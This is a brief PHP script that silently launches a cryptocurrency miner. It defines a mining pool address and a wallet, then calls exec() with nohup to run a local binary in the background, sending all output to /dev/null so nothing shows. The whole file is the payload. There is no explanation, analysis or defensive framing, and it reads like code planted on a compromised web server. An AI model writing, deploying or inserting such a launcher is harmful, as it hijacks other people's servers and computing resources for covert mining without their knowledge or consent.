<?php
$pool = "198.51.100.9:3333";
$wallet = "0x8f3Cf7ad23Cd3CaDbD9735AFf958023239c6A063";
exec("nohup ./bin/w -o $pool -u $wallet > /dev/null 2>&1 &");
